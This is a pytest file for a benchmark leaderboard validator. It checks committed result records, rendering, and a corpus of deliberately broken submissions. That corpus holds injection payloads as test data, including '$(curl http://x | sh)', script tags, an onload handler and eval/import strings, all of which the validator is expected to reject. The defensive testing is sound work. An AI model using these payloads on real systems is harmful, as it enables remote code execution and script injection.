"""Leaderboard submissions: the committed records validate, a corpus of broken ones does not,
and the boards render."""

from __future__ import annotations

import copy
import json
import math
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from derl_bench.cli import main
from derl_bench.evaluation import adapter_for, evaluated_env_ids, schema_errors
from derl_bench.evaluation.record import file_sha256, recipe_block, recipe_digest
from derl_bench.evaluation.schema import (
    DEFAULT_POLICY_INTERFACE,
    RESULT_SCHEMA,
    SETUP_FIELDS,
    WEIGHT_POLICIES,
    binomial_se,
)
from derl_bench.family import board_folder
from derl_bench.leaderboard import (
    render_html,
    submission_files,
    validate_board,
    validate_file,
)
from derl_bench.leaderboard.board import build_boards

REPO = Path(__file__).resolve().parents[2]
BOARDS = REPO / "leaderboards"
BASE = BOARDS / "gsm8k" / "random-none-L0.json"


def base_record() -> dict[str, Any]:
    return json.loads(BASE.read_text(encoding="utf-8"))


def committed() -> list[Path]:
    return submission_files(BOARDS)


# -- the committed boards ---------------------------------------------------------------------

def test_every_committed_record_validates():
    files = committed()
    assert len(files) >= 60
    bad = {str(p): validate_file(p).problems for p in files if not validate_file(p).ok}
    assert bad == {}


def test_every_board_folder_is_named_by_the_one_rule():
    # leaderboards/<board folder>/: the env id's name, lower-cased (derl_bench.family.board_folder).
    folders = {path.parent.name for path in committed()}
    assert folders == {board_folder(env_id) for env_id in evaluated_env_ids()}
    assert all(adapter_for(env_id).benchmark == board_folder(env_id)
               for env_id in evaluated_env_ids())
    assert {"alfworld", "digitstrap", "reasoninggym"} <= folders


@pytest.mark.parametrize("policy", ["random", "oracle"])
def test_random_and_oracle_are_committed_for_every_env_and_level(policy):
    missing = []
    for env_id in evaluated_env_ids():
        for level in adapter_for(env_id).levels():
            path = BOARDS / adapter_for(env_id).benchmark / f"{policy}-none-{level}.json"
            if not path.is_file():
                missing.append(str(path.relative_to(REPO)))
                continue
            record = json.loads(path.read_text())
            assert (record["kind"], record["method"], record["level"]) == ("run", policy, level)
            assert record["results"]["n"] == record["eval_set"]["size"]
    assert missing == []


def test_reported_records_say_so_and_have_no_se():
    reported = [json.loads(p.read_text()) for p in committed() if p.name.startswith("reported-")]
    # DERL: Table 1, 4 methods x 6 columns (its GiGPO and RLVMR rows are RLVMR's own);
    # Table 2, 5 x 2 x 2. RLVMR: Table 1, 15 rows x 6 columns.
    papers = {"https://arxiv.org/abs/2512.13399v1": 44, "https://arxiv.org/abs/2507.22844": 90}
    assert {url: sum(r["source"]["url"] == url for r in reported) for url in papers} == papers
    assert len(reported) == sum(papers.values())
    for record in reported:
        assert record["kind"] == "reported"
        assert "reported, not reproduced here" in record["source"]["note"]
        assert "no standard errors" in record["source"]["note"]
        assert record["results"]["success_rate"]["se"] is None
        assert record["setup"]["step_cap"] == (30 if record["benchmark"] in (
            "alfworld", "scienceworld") else 1)
        assert record["results"]["metric"] == (
            "published" if record["benchmark"] == "scienceworld" else "strict")


def test_rlvmr_table_1_rows_are_on_the_agent_boards():
    rows = {(r["benchmark"], r["method"], r["model"], r["level"]): r
            for r in (json.loads(p.read_text()) for p in committed())
            if r["source"] and "2507.22844" in r["source"]["url"]}
    # spot checks against the paper: the 7B RLVMR L2 headline and the 1.5B ReAct floor
    assert rows[("alfworld", "RLVMR", "Qwen2.5-7B-Instruct", "L2")][
        "results"]["success_rate"]["mean"] == 0.836
    assert rows[("scienceworld", "ReAct", "Qwen2.5-1.5B-Instruct", "L1")][
        "results"]["success_rate"]["mean"] == 0.008
    assert {m for _, m, model, _ in rows if model == "GPT-4o"} == {"ReAct"}
    for record in rows.values():
        unknown = record["setup"]["unknown"]
        assert {"episodes", "drawn", "repeats"} <= set(unknown)
        assert (record["setup"]["checkpoint"] is None) == ("checkpoint" in unknown)


def test_committed_board_is_up_to_date():
    assert main(["leaderboard", "render", "--dir", str(BOARDS), "--check"]) == 0


def test_cli_validates_the_committed_boards(capsys):
    assert main(["leaderboard", "validate", "--dir", str(BOARDS)]) == 0
    out = capsys.readouterr().out
    assert out.count("ok ") == len(committed())


# -- the broken corpus --------------------------------------------------------------------------

Mutation = Callable[[dict[str, Any]], Any]


def _set(path: str, value: Any) -> Mutation:
    def mutate(record: dict[str, Any]) -> dict[str, Any]:
        *parents, leaf = path.split(".")
        node = record
        for key in parents:
            node = node[key]
        node[leaf] = value
        return record
    return mutate


def _delete(path: str) -> Mutation:
    def mutate(record: dict[str, Any]) -> dict[str, Any]:
        *parents, leaf = path.split(".")
        node = record
        for key in parents:
            node = node[key]
        del node[leaf]
        return record
    return mutate


def _consistent_n(n: int) -> Mutation:
    """Shrink the results to n episodes keeping rate, SE and the breakdown consistent."""
    def mutate(record: dict[str, Any]) -> dict[str, Any]:
        res = record["results"]
        successes = min(res["successes"], n)
        rate = {"mean": successes / n, "se": binomial_se(successes / n, n)}
        res.update(n=n, successes=successes, success_rate=rate)
        res["per_task_type"] = {"gsm8k": {"n": n, "successes": successes, "success_rate": rate,
                                          "mean_score": None}}
        return record
    return mutate


def _reported(**changes: Any) -> Mutation:
    def mutate(record: dict[str, Any]) -> dict[str, Any]:
        record = json.loads(
            (BOARDS / "gsm8k" / "reported-derl-paper-derl-trained-on-math-only-L0.json")
            .read_text())
        for path, value in changes.items():
            _set(path.replace("__", "."), value)(record)
        return record
    return mutate


def _se_for_other_n(record: dict[str, Any]) -> dict[str, Any]:
    rate = record["results"]["success_rate"]
    rate["se"] = binomial_se(rate["mean"], 100)
    return record


def _rate_mismatch(record: dict[str, Any]) -> dict[str, Any]:
    record["results"]["successes"] += 5
    record["results"]["per_task_type"]["gsm8k"]["successes"] += 5
    return record


def _breakdown_mismatch(record: dict[str, Any]) -> dict[str, Any]:
    block = record["results"]["per_task_type"]["gsm8k"]
    record["results"]["per_task_type"]["extra"] = copy.deepcopy(block)
    return record


def _renamed_task_type(name: str) -> Mutation:
    def mutate(record: dict[str, Any]) -> dict[str, Any]:
        types = record["results"]["per_task_type"]
        types[name] = types.pop("gsm8k")
        return record
    return mutate


def _raw(text: str) -> Callable[[dict[str, Any]], str]:
    return lambda record: text


EXPLOIT = "__import__('pathlib').Path('{marker}').touch()"

# (case id, mutation, substring the rejection reason must contain)
BROKEN: list[tuple[str, Callable[[dict[str, Any]], Any], str]] = [
    ("malformed-truncated", lambda r: json.dumps(r)[:-20], "malformed JSON"),
    ("malformed-trailing-comma", _raw('{"schema_version": "derl-bench-result/1",}'),
     "malformed JSON"),
    ("malformed-duplicate-key", lambda r: json.dumps(r)[:-1] + ', "level": "L1"}',
     "duplicate key 'level'"),
    ("malformed-nan", lambda r: json.dumps(r).replace('"mean_steps": 1.0', '"mean_steps": NaN'),
     "NaN is not a JSON number"),
    ("not-an-object", _raw("[1, 2, 3]"), "$: must be object"),
    ("missing-results", _delete("results"), "missing required field 'results'"),
    ("missing-n", _delete("results.n"), "missing required field 'n'"),
    ("missing-date", _delete("date"), "missing required field 'date'"),
    ("wrong-manifest-hash", _set("eval_set.manifest_sha256", "0" * 64),
     "$.eval_set.manifest_sha256: hash"),
    ("wrong-episodes-hash", _set("eval_set.episodes_sha256", "ab" * 32),
     "$.eval_set.episodes_sha256: hash"),
    ("wrong-manifest-count", _set("eval_set.manifest_count", 1000), "$.eval_set.manifest_count"),
    ("n-too-small", _consistent_n(100), "is too small"),
    ("n-too-large", _consistent_n(5000), "larger than the eval set"),
    ("rate-1.2", _set("results.success_rate.mean", 1.2), "above the maximum 1"),
    ("rate-negative", _set("results.success_rate.mean", -0.1), "below the minimum 0"),
    ("se-disagrees-with-n", _se_for_other_n, "does not agree with n=1319"),
    ("se-missing-on-a-run", _set("results.success_rate.se", None), "needs a standard error"),
    ("successes-disagree-with-rate", _rate_mismatch, "!= successes/n"),
    ("breakdown-does-not-add-up", _breakdown_mismatch, "do not add up"),
    ("n-is-boolean", _set("results.n", True), "$.results.n: must be integer or null"),
    ("code-in-method", _set("method", EXPLOIT), "embedded code string (Python dunder)"),
    ("code-in-env-kwargs", _set("env.kwargs", {"split": "test; import os"}),
     "embedded code string (Python import)"),
    ("script-tag-in-hardware", _set("hardware.cpu", "<script>alert(1)</script>"),
     "embedded code string (HTML/script tag)"),
    ("shell-substitution-in-model", _set("model", "$(curl http://x | sh)"),
     "embedded code string (shell substitution)"),
    ("event-handler-in-key", _set("data_checksums", {"x onload=alert(1)": "0" * 64}),
     "embedded code string (HTML event handler)"),
    ("tampered-data-checksum", _set("data_checksums", {"gsm8k/test.jsonl": "0" * 64}),
     "$.data_checksums.gsm8k/test.jsonl: sha256 '0000"),
    ("data-checksum-of-an-unknown-file", _set("data_checksums", {"gsm8k/extra.jsonl": "0" * 64}),
     "not a data file this benchmark knows"),
    ("run-without-data-checksums", _set("data_checksums", {}), "must list the checksums"),
    ("eval-call-in-policy", _set("policy", "eval(input())"), "embedded code string"),
    ("unknown-env", _set("env.id", "derl/Pong-v0"), "unknown env 'derl/Pong-v0'"),
    ("evaluated-on-the-train-split", _set("env.kwargs", {"split": "train"}),
     "$.env.kwargs: {'split': 'train'} differ from the protocol's"),
    ("unknown-level", _set("level", "L3"), "$.level: must be one of"),
    ("level-the-env-lacks", _set("level", "L2"), "has no level 'L2'"),
    ("wrong-schema-version", _set("schema_version", "derl-bench-result/0"),
     "must be 'derl-bench-result/1'"),
    ("unknown-field", _set("score_boost", 1), "unknown field 'score_boost'"),
    ("benchmark-mismatch", _set("benchmark", "math"), "does not match env derl/GSM8K-v0"),
    ("impossible-date", _set("date", "2026-13-45"), "not a calendar date"),
    ("future-date", _set("date", "2999-01-01"), "lies in the future"),
    ("steps-over-cap", _set("results.mean_steps", 7.0), "exceeds the 1-step cap"),
    ("card-version-from-the-future", _set("env.card_version", 99), "newer than the card"),
    ("reported-with-se", _reported(results__success_rate__se=0.01), "leave it null"),
    ("reported-without-note", _reported(source__note="from the paper"),
     "must say 'reported, not reproduced here'"),
    ("reported-without-source", _reported(source=None), "must cite its source"),
    ("run-citing-a-source", _set("source", {"citation": "x", "url": "https://x.org", "table": "1",
                                           "note": "n"}), "only reported records cite"),
    ("meta-reward-that-does-not-parse",
     _set("meta_reward", {"expression": "outcome +", "hash": "25a63e52a98f6fda"}),
     "$.meta_reward.expression: does not compile against the primitives of derl/GSM8K-v0: "
     "syntax error"),
    ("meta-reward-over-a-primitive-the-family-lacks",
     _set("meta_reward", {"expression": "success", "hash": "25a63e52a98f6fda"}),
     "'success' is not a known primitive"),
    ("meta-reward-hash-of-another-expression",
     _set("meta_reward", {"expression": "outcome", "hash": "0123456789abcdef"}),
     "$.meta_reward.hash: '0123456789abcdef' is not the hash of the expression"),
    ("invented-task-type", _renamed_task_type("word_problems"),
     "$.results.per_task_type.word_problems: not a task type of derl/GSM8K-v0 at L0"),
]


def _write_case(folder: Path, name: str, mutation: Callable[[dict[str, Any]], Any]) -> Path:
    payload = mutation(base_record())
    path = folder / f"random-{name}-L0.json"  # named as a board names the base record
    path.write_text(payload if isinstance(payload, str) else json.dumps(payload),
                    encoding="utf-8")
    return path


def test_the_base_of_the_corpus_is_valid(tmp_path):
    folder = tmp_path / "leaderboards" / "gsm8k"
    folder.mkdir(parents=True)
    assert validate_file(_write_case(folder, "base", lambda r: r)).problems == []


@pytest.mark.parametrize(("name", "mutation", "reason"), BROKEN, ids=[c[0] for c in BROKEN])
def test_broken_submission_is_rejected_for_the_right_reason(tmp_path, name, mutation, reason):
    folder = tmp_path / "leaderboards" / "gsm8k"
    folder.mkdir(parents=True)
    marker = tmp_path / "executed"
    path = _write_case(folder, name, lambda r: _with_marker(mutation(r), marker))
    report = validate_file(path)
    assert not report.ok
    assert any(reason in problem for problem in report.problems), report.problems
    assert not marker.exists()  # nothing in a submission ever runs


def _with_marker(payload: Any, marker: Path) -> Any:
    text = payload if isinstance(payload, str) else json.dumps(payload)
    text = text.replace("{marker}", str(marker))
    return text if isinstance(payload, str) else json.loads(text)


def test_corpus_is_large_and_every_file_is_rejected_by_the_cli(tmp_path, capsys):
    assert len(BROKEN) >= 20
    folder = tmp_path / "leaderboards" / "gsm8k"
    folder.mkdir(parents=True)
    files = [_write_case(folder, name, mutation) for name, mutation, _ in BROKEN]
    assert main(["leaderboard", "validate", *map(str, files)]) == 1
    out = capsys.readouterr().out
    assert out.count("REJECTED") == len(BROKEN)
    assert not [line for line in out.splitlines() if line.startswith("ok")]


def test_a_tampered_card_declared_data_checksum_is_rejected(tmp_path):
    folder = tmp_path / "leaderboards" / "alfworld"
    folder.mkdir(parents=True)
    record = json.loads((BOARDS / "alfworld" / "random-none-L1.json").read_text())
    (key, digest), = record["data_checksums"].items()
    record["data_checksums"][key] = "0" * 64
    (folder / "random-tampered-L1.json").write_text(json.dumps(record), encoding="utf-8")
    problems = validate_file(folder / "random-tampered-L1.json").problems
    assert problems == [f"$.data_checksums.{key}: sha256 '{'0' * 64}' does not match the "
                        f"recorded {digest}"]


def test_recorded_data_checksums_are_those_of_the_downloaded_data(data_root):
    # The card's and the catalogue's checksums are what an evaluation computes from the data.
    from derl_bench.leaderboard.validate import known_data_checksums

    computed = {}
    for env_id in evaluated_env_ids():
        adapter = adapter_for(env_id)
        for level in adapter.levels():
            for path, digest in adapter.data_checksums(adapter.eval_set(level)).items():
                computed[path] = (digest, known_data_checksums(adapter.family).get(path))
    assert len(computed) >= 6
    assert {path: digest in known for path, (digest, known) in computed.items() if known} == (
        dict.fromkeys(computed, True))


def test_file_in_the_wrong_board_folder_is_rejected(tmp_path):
    folder = tmp_path / "leaderboards" / "alfworld"
    folder.mkdir(parents=True)
    report = validate_file(_write_case(folder, "misplaced", lambda r: r))
    assert report.problems == ["file is in folder 'alfworld', but its benchmark is 'gsm8k'"]


def test_oversized_and_binary_files_are_rejected(tmp_path):
    big = tmp_path / "big.json"
    big.write_text(" " * (1 << 20) + "{}")
    assert "the limit is" in validate_file(big).problems[0]
    binary = tmp_path / "binary.json"
    binary.write_bytes(b"\xff\xfe{}")
    assert validate_file(binary).problems == ["malformed JSON: not UTF-8 (invalid start byte)"]
    assert "cannot read" in validate_file(tmp_path / "absent.json").problems[0]


def _board_with_base(tmp_path: Path, name: str = "custom-boards") -> Path:
    # Any folder name: the board's rules do not depend on it being called "leaderboards".
    board_dir = tmp_path / name
    (board_dir / "gsm8k").mkdir(parents=True)
    (board_dir / "gsm8k" / BASE.name).write_bytes(BASE.read_bytes())
    return board_dir


def test_a_symlink_and_a_fifo_among_the_records_are_errors_naming_them(tmp_path, capsys):
    import os

    board_dir = _board_with_base(tmp_path)
    (board_dir / "gsm8k" / "random-zero-L1.json").symlink_to("/dev/zero")
    os.mkfifo(board_dir / "gsm8k" / "random-pipe-L2.json")
    # Neither is opened: a read would exhaust memory or block forever.
    assert main(["leaderboard", "validate", "--dir", str(board_dir)]) == 1
    out = capsys.readouterr().out
    assert "random-zero-L1.json is a symbolic link; only regular files are read" in out
    assert "random-pipe-L2.json is a FIFO; only regular files are read" in out
    assert f"ok        {board_dir / 'gsm8k' / BASE.name}" in out
    assert main(["leaderboard", "render", "--dir", str(board_dir), "--no-charts"]) == 0
    err = capsys.readouterr().err
    assert "skipping invalid" in err and "is a FIFO" in err and "is a symbolic link" in err


def test_a_record_whose_file_name_says_otherwise_is_rejected(tmp_path):
    folder = tmp_path / "leaderboards" / "gsm8k"
    folder.mkdir(parents=True)
    (folder / "oracle-none-L2.json").write_bytes(BASE.read_bytes())  # a random L0 record
    problems = validate_file(folder / "oracle-none-L2.json").problems
    assert problems == [
        "file name 'oracle-none-L2.json' does not end in '-L0.json', but its record is level L0",
        "file name 'oracle-none-L2.json' does not name its record's method 'random' (as "
        "'random')"]
    record = base_record()
    record["method"] = "derl (seed 3)"
    (folder / "derl-s2-L0.json").write_text(json.dumps(record))
    assert validate_file(folder / "derl-s2-L0.json").problems == [
        "file name 'derl-s2-L0.json' does not end in '-s3-L0.json', but its record is level L0 "
        "of seed 3"]


def test_a_duplicate_record_is_an_error(tmp_path, capsys):
    board_dir = _board_with_base(tmp_path)
    (board_dir / "gsm8k" / "random-copy-L0.json").write_text(
        json.dumps(base_record(), indent=4))  # the same record, laid out differently
    assert main(["leaderboard", "validate", "--dir", str(board_dir)]) == 1
    assert "duplicate of" in capsys.readouterr().out


def test_a_second_run_record_of_one_method_seed_and_level_is_an_error_naming_both(
        tmp_path, capsys):
    board_dir = _board_with_base(tmp_path)
    again = base_record()
    again["date"] = "2026-01-02"  # another record, so not the same JSON twice
    (board_dir / "gsm8k" / "random-rerun-L0.json").write_text(json.dumps(again))
    assert main(["leaderboard", "validate", "--dir", str(board_dir)]) == 1
    out = capsys.readouterr().out
    first, second = board_dir / "gsm8k" / BASE.name, board_dir / "gsm8k" / "random-rerun-L0.json"
    assert f"REJECTED  {second}" in out and f"ok        {first}" in out
    assert (f"duplicate entry: {first} and {second} are both run records of method 'random', "
            "model 'none', level L0") in out
    # the seed a method names tells runs apart; the same seed twice does not
    (board_dir / "gsm8k" / "random-rerun-L0.json").unlink()
    for name, method, date in (("derl-s0-L0.json", "derl (seed 0)", "2026-01-02"),
                               ("derl-s1-L0.json", "derl (seed 1)", "2026-01-02"),
                               ("derl-rerun-s1-L0.json", "derl (seed 1)", "2026-01-03")):
        record = base_record()
        record.update(method=method, date=date)
        (board_dir / "gsm8k" / name).write_text(json.dumps(record))
    reports = {r.path.name: r.problems for r in validate_board(board_dir)}
    assert [name for name, problems in reports.items() if problems] == ["derl-s1-L0.json"]
    assert "derl-rerun-s1-L0.json and " in reports["derl-s1-L0.json"][0]
    assert "seed 1, level L0" in reports["derl-s1-L0.json"][0]


def test_reported_records_without_a_seed_may_share_method_model_and_level(tmp_path):
    board_dir = tmp_path / "boards"
    (board_dir / "gsm8k").mkdir(parents=True)
    source = BOARDS / "gsm8k" / "reported-derl-paper-derl-trained-on-math-only-L0.json"
    record = json.loads(source.read_text())
    (board_dir / "gsm8k" / source.name).write_bytes(source.read_bytes())
    record["source"]["citation"] = "Another paper reporting the same method and model"
    (board_dir / "gsm8k" / source.name.replace("derl-paper", "other-paper")).write_text(
        json.dumps(record))
    assert [r.problems for r in validate_board(board_dir)] == [[], []]


def test_the_folder_check_runs_under_any_leaderboards_folder(tmp_path, capsys):
    board_dir = _board_with_base(tmp_path)
    alfworld = BOARDS / "alfworld" / "random-none-L1.json"
    (board_dir / "gsm8k" / alfworld.name).write_bytes(alfworld.read_bytes())
    assert main(["leaderboard", "validate", "--dir", str(board_dir)]) == 1
    assert "file is in folder 'gsm8k', but its benchmark is 'alfworld'" in capsys.readouterr().out
    assert main(["leaderboard", "validate", "--dir", str(board_dir),
                 str(board_dir / "gsm8k" / alfworld.name)]) == 1
    assert "but its benchmark is 'alfworld'" in capsys.readouterr().out


def test_a_record_file_ending_in_upper_case_json_is_reported_not_skipped(tmp_path, capsys):
    board_dir = _board_with_base(tmp_path)
    gsm8k = BOARDS / "gsm8k" / "random-none-L0.json"
    shouted = board_dir / "gsm8k" / "random-none-L0.JSON"
    shouted.write_bytes(gsm8k.read_bytes())
    assert main(["leaderboard", "validate", "--dir", str(board_dir)]) == 1
    out = capsys.readouterr().out
    assert str(shouted) in out
    assert "file name 'random-none-L0.JSON' ends in '.JSON': a record's file ends in '.json'" in out


def test_schema_accepts_a_fresh_record_and_names_every_field():
    record = base_record()
    assert schema_errors(record, RESULT_SCHEMA) == []
    assert set(RESULT_SCHEMA["required"]) == set(record)
    se = record["results"]["success_rate"]["se"]
    assert math.isclose(se, binomial_se(record["results"]["success_rate"]["mean"],
                                        record["results"]["n"]))


# -- rendering ----------------------------------------------------------------------------------

def test_render_writes_tables_charts_and_page(tmp_path):
    board_dir = tmp_path / "leaderboards"
    for path in committed():
        target = board_dir / path.parent.name / path.name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(path.read_bytes())
    (board_dir / "run-here.txt").write_bytes((BOARDS / "run-here.txt").read_bytes())
    assert main(["leaderboard", "render", "--dir", str(board_dir)]) == 0
    readme = (board_dir / "README.md").read_text()
    for env_id in evaluated_env_ids():
        assert f"(`{env_id}`)" in readme
        png = board_dir / "plots" / f"{adapter_for(env_id).benchmark}.png"
        assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert "| oracle | none | run here | 100.0 ± 0.0 (n=1319," in readme
    assert "*reported, not reproduced here*" in readme
    page = (board_dir / "index.html").read_text()
    # self-contained: nothing is loaded from elsewhere; the only addresses are the papers'
    # links, which the reader follows or not
    assert " src=" not in page and "<link" not in page and "@import" not in page
    assert set(re.findall(r'<a href="(http[^"]*)"', page)) == {
        "https://arxiv.org/abs/2512.13399v1", "https://arxiv.org/abs/2507.22844"}
    assert page.count("http") == page.count('<a href="http')  # in links and nowhere else
    boards = build_boards([(p, json.loads(p.read_text())) for p in committed()])
    cells = sum(len(r.cells) + len(r.published) for b in boards for r in b.rows)
    # a view holds one table per policy interface with a row for its level and metric
    tables = sum(any(level in r.metric_cells(metric) for r in b.rows_of(interface))
                 or interface == DEFAULT_POLICY_INTERFACE
                 for b in boards for _, level, metric in b.columns()
                 for interface in b.interfaces())
    assert page.count("<tr") == (1 + cells) + (tables + cells)  # all records, then the views


def test_render_skips_invalid_records(tmp_path, capsys):
    board_dir = tmp_path / "leaderboards"
    (board_dir / "gsm8k").mkdir(parents=True)
    (board_dir / "gsm8k" / BASE.name).write_bytes(BASE.read_bytes())
    (board_dir / "gsm8k" / "bad.json").write_text("{")
    assert main(["leaderboard", "render", "--dir", str(board_dir), "--no-charts"]) == 0
    assert "skipping invalid" in capsys.readouterr().err
    # not listed in the folder's run-here.txt, so the board calls it submitted
    assert "| random | none | submitted |" in (board_dir / "README.md").read_text()


def test_the_boards_take_the_evaluation_rules_they_are_handed():
    from derl_bench.leaderboard.board import evaluated_adapters
    from derl_bench.leaderboard.validate import known_data_checksums

    adapters = evaluated_adapters()
    assert [a.env_id for a in adapters] == evaluated_env_ids()
    records = [(p, json.loads(p.read_text())) for p in committed()]
    assert build_boards(records, adapters=adapters) == build_boards(records)
    only = [a for a in adapters if a.benchmark == "gsm8k"]
    gsm8k = [(p, r) for p, r in records if r["benchmark"] == "gsm8k"]
    assert [b.benchmark for b in build_boards(gsm8k, adapters=only)] == ["gsm8k"]
    family = only[0].resolved
    assert known_data_checksums(family) == known_data_checksums(family.name)


def test_render_writes_only_into_a_leaderboards_folder(tmp_path, capsys):
    # A project's root: its own README.md and no board in it.
    project = tmp_path / "project"
    (project / "src").mkdir(parents=True)
    (project / "README.md").write_text("# my project\n")
    assert main(["leaderboard", "render", "--dir", str(project)]) == 2
    err = capsys.readouterr().err
    assert f"error: {project} is not a leaderboard folder: its README.md was not written by " \
        "`derl-bench leaderboard render`" in err
    assert sorted(p.name for p in project.iterdir()) == ["README.md", "src"]
    assert (project / "README.md").read_text() == "# my project\n"
    # Nor a folder of other things, nor a board whose page someone wrote by hand.
    (project / "README.md").unlink()
    assert main(["leaderboard", "render", "--dir", str(project)]) == 2
    assert "it holds no <benchmark>/ record folder" in capsys.readouterr().err
    assert [p.name for p in project.iterdir()] == ["src"]
    board_dir = _board_with_base(tmp_path)
    (board_dir / "index.html").write_text("<p>mine</p>")
    assert main(["leaderboard", "render", "--dir", str(board_dir), "--no-charts"]) == 2
    assert "its index.html was not written" in capsys.readouterr().err
    assert not (board_dir / "README.md").exists()
    # A board, a new folder and a board rendered before are written.
    (board_dir / "index.html").unlink()
    assert main(["leaderboard", "render", "--dir", str(board_dir), "--no-charts"]) == 0
    assert main(["leaderboard", "render", "--dir", str(board_dir), "--no-charts"]) == 0
    assert main(["leaderboard", "render", "--dir", str(tmp_path / "new"), "--no-charts"]) == 0
    assert (tmp_path / "new" / "index.html").is_file()


def test_html_escapes_what_it_shows():
    from derl_bench.leaderboard.board import Board, Cell, Row

    row = Row("<b>m</b>", "a&b", "run", cells={"L0": Cell(0.5, 0.1, 10, "2026-01-01", "x")})
    page = render_html([Board("gsm8k", "derl/GSM8K-v0", ["L0"], [row])])
    assert "&lt;b&gt;m&lt;/b&gt;" in page and "a&amp;b" in page and "<b>m" not in page


# -- ScienceWorld's two metrics -----------------------------------------------------------------

SCIENCEWORLD_RUN = BOARDS / "scienceworld" / "stall-none-L0.json"


def _scienceworld_run() -> dict[str, Any]:
    return json.loads(SCIENCEWORLD_RUN.read_text(encoding="utf-8"))


@pytest.mark.parametrize(("name", "base", "mutation", "reason"), [
    ("published-missing", _scienceworld_run, _delete("results.published"),
     "has a published metric; record it"),
    ("run-headline-not-strict", _scienceworld_run, _set("results.metric", "published"),
     "counts strict success"),
    ("published-rate-disagrees", _scienceworld_run, _set("results.published.successes", 3),
     "!= successes/n"),
    ("published-on-gsm8k", base_record,
     _set("results.published", {"successes": 0, "success_rate": {"mean": 0.0, "se": 0.0}}),
     "this env has no published metric"),
    ("reported-published-on-gsm8k", base_record, _reported(results__metric="published"),
     "this env has no published metric"),
])
def test_metric_rules_are_enforced(tmp_path, name, base, mutation, reason):
    path = tmp_path / f"{name}.json"
    path.write_text(json.dumps(mutation(base())), encoding="utf-8")
    problems = validate_file(path).problems
    assert any(reason in p for p in problems), problems


def test_scienceworld_board_shows_both_metrics():
    boards = {b.benchmark: b for b in build_boards(
        [(p, json.loads(p.read_text())) for p in committed()])}
    board = boards["scienceworld"]
    assert [c[0] for c in board.columns()] == ["L0 strict", "L1 strict", "L2 strict",
                                               "L0 published", "L1 published", "L2 published"]
    assert [c[0] for c in boards["alfworld"].columns()] == ["L0", "L1", "L2"]
    rows = {(r.method, r.kind): r for r in board.rows}
    stall = rows[("stall", "run")]
    for level in ("L0", "L2"):
        assert stall.cells[level].mean == 0.0 and stall.published[level].mean >= 0.95
    reported = [r for r in board.rows if r.kind == "reported"]
    assert reported and all(not r.cells and set(r.published) == {"L0", "L1", "L2"}
                            for r in reported)
    readme = (BOARDS / "README.md").read_text()
    assert "| L0 strict | L1 strict | L2 strict | L0 published | L1 published | L2 published |" \
        in readme


# -- every record carries its protocol ----------------------------------------------------------

def _unstated_checkpoint(record: dict[str, Any]) -> dict[str, Any]:
    record["setup"].update(checkpoint=None, unknown={"checkpoint": "not said"})
    return record


@pytest.mark.parametrize(("name", "base", "mutation", "reason"), [
    ("setup-missing", base_record, _delete("setup"), "missing required field 'setup'"),
    ("metric-missing", base_record, _delete("results.metric"), "missing required field 'metric'"),
    ("run-without-checkpoint", base_record, _unstated_checkpoint,
     "$.setup.checkpoint: a run record states it"),
    ("null-without-reason", base_record, _reported(setup__step_cap=None),
     "$.setup.step_cap: null without a reason"),
    ("reason-for-a-known-value", base_record, _set("setup.unknown", {"step_cap": "unsure"}),
     "given a reason, but the value is known"),
    ("run-with-longer-cap", _scienceworld_run, _set("setup.step_cap", 50),
     "$.setup.step_cap: 50 differs from the protocol's 30"),
    ("run-with-other-episode-count", base_record, _set("setup.episodes", 128),
     "$.setup.episodes: 128 differs"),
    ("run-averaging-repeats", base_record, _set("setup.repeats", 3), "$.setup.repeats: 3 differs"),
    ("run-drawn-otherwise", base_record, _set("setup.drawn", "128 random draws"),
     "$.setup.drawn: '128 random draws' differs"),
    ("reported-null-without-reason", base_record, _reported(setup__unknown={}),
     "$.setup.episodes: null without a reason"),
    ("unknown-names-no-field", base_record, _reported(setup__unknown__seed="x"),
     "must be one of"),
])
def test_setup_rules_are_enforced(tmp_path, name, base, mutation, reason):
    path = tmp_path / f"{name}.json"
    path.write_text(json.dumps(mutation(base())), encoding="utf-8")
    problems = validate_file(path).problems
    assert any(reason in p for p in problems), problems


def test_every_committed_record_states_its_setup_or_why_not():
    for path in committed():
        record = json.loads(path.read_text())
        setup, metric = record["setup"], record["results"]["metric"]
        assert metric in ("strict", "published")
        if record["kind"] == "run":
            assert setup["unknown"] == {} and None not in map(setup.get, SETUP_FIELDS), path
        else:
            assert {k for k, v in setup.items() if v is None} == set(setup["unknown"]), path


def test_a_fresh_run_record_carries_its_setup():
    from derl_bench.evaluation import evaluate

    record, _ = evaluate("derl/Arithmetic-v0", "L0", "oracle")
    assert record["setup"] == {
        "step_cap": 1, "episodes": record["eval_set"]["size"],
        "drawn": f"all {record['eval_set']['size']} entries of manifest "
                 f"{record['eval_set']['manifest']}, in manifest order",
        "repeats": 1, "checkpoint": "none: a scripted policy, nothing trained", "unknown": {}}
    assert record["results"]["metric"] == "strict"
    trained, _ = evaluate("derl/Arithmetic-v0", "L0", "oracle", checkpoint="step 150")
    assert trained["setup"]["checkpoint"] == "step 150"


# -- records that travel: no machine path, a checkpoint digest, a recipe anyone can check ------

DIGEST = "ab" * 32
RECIPE = REPO / "baselines" / "gsm8k-outcome.yaml"
_DELETE = object()


def _trained(**changes: Any) -> dict[str, Any]:
    """The base record as a trained policy's run: its model folder named relative to where the
    command ran, the folder's digest and a recipe cited from baselines/; then ``changes``
    (``setup__checkpoint_sha256=...``; the value ``_DELETE`` removes the field)."""
    record = base_record()
    record["policy"] = "llm:runs/gsm8k/checkpoints/step-20,temperature=0,batched"
    record["setup"].update(checkpoint="final weights", checkpoint_sha256=DIGEST)
    record["recipe"] = {"name": RECIPE.name, "sha256": file_sha256(RECIPE),
                        "path": f"baselines/{RECIPE.name}"}
    for path, value in changes.items():
        key = path.replace("__", ".")
        (_delete(key) if value is _DELETE else _set(key, value))(record)
    return record


def _on_board(tmp_path: Path, record: dict[str, Any]) -> Path:
    path = tmp_path / "leaderboards" / "gsm8k" / BASE.name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(record), encoding="utf-8")
    return path


def test_a_trained_run_with_a_relative_folder_its_digest_and_a_cited_recipe_validates(
        tmp_path, capsys):
    path = _on_board(tmp_path, _trained())
    assert validate_file(path, repository=REPO).problems == []
    # from the command line, a file off the board finds the recipe in the repository of --dir
    assert main(["leaderboard", "validate", "--dir", str(BOARDS), str(path)]) == 0
